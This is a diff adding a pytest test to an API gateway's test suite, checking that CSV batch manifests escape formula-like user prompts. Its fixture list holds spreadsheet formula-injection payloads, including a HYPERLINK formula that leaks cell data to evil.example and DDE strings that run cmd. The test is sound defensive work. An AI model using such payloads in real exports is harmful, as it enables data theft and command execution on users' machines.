@@ -5,10 +5,13 @@ themselves out, batch manifests carry no spreadsheet formulas, dashboard forms w
 from __future__ import annotations
 
 import asyncio
+import csv
+import io
 import ipaddress
 import subprocess
 import sys
 import time
+import zipfile
 
 import httpx
 import pytest
@@ -226,3 +229,26 @@ def test_last_admin_key_cannot_be_revoked_even_by_two_revokes_at_once(tmp_path):
             assert gone.get("/api/v1/me").status_code == 401
     finally:
         gateway.stop()
+
+
+# -- manifest.csv: user text is never a spreadsheet formula --------------------------------------
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+cmd|' /C calc'!A0", "-2+3+cmd|x",
+            "@SUM(1+1)*cmd|x", "\t=1+1", "\r=1+1"]
+
+
+def test_batch_manifest_keeps_formula_like_prompts_as_text(admin):
+    batch = f"csv-{time.monotonic_ns()}"
+    for prompt in [*FORMULAS, "a cat - surfing = fun"]:
+        job = admin.post("/api/v1/jobs", json={"task": "t2v", "prompt": prompt, "batch_id": batch,
+                                               "negative_prompt": "=1+1", "lora_name": "style.safetensors"})
+        assert job.status_code == 201, job.text
+    response = admin.get(f"/ui/batches/{batch}/videos.zip")
+    assert response.status_code == 200, response.text
+    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
+        rows = list(csv.DictReader(io.StringIO(archive.read("manifest.csv").decode())))
+    assert sorted(row["prompt"] for row in rows) == sorted(["'" + f for f in FORMULAS] + ["a cat - surfing = fun"])
+    for row in rows:
+        assert row["negative_prompt"] == "'=1+1"
+        # No cell of any row starts as a formula would.
+        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values()), row
